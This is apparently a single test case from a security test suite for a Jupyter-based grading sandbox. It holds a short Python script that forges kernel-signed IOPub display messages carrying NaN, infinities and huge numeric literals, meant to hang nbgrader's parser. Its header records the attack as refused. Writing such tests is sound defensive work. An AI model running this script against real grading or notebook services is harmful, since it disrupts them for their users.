# attack: displays that hold NaN, infinities and numbers larger than all, where JSON has no such things
# outcome: refused
# stock: no: may hang stock nbgrader for its whole time
import json

kernel = get_ipython().kernel
session, parent = kernel.session, get_ipython().parent_header
own = json.dumps(parent.get("header", {}), default=str).encode()
header = json.dumps({"msg_id": "a", "msg_type": "display_data", "version": "5.3", "session": session.session}).encode()
for value in (b"NaN", b"-Infinity", b"1e99999", b"0." + b"1" * 100_000, b"1" * 4000, b"-0e-99999", b"1" * 100_000):
    parts = [header, own, b"{}", b'{"data": {"text/plain": ' + value + b', "application/json": [' + value + b']}, "metadata": {"a": ' + value + b'}, "transient": {}}']
    kernel.iopub_socket.send_multipart([b"<IDS|MSG>", session.sign(parts), *parts])
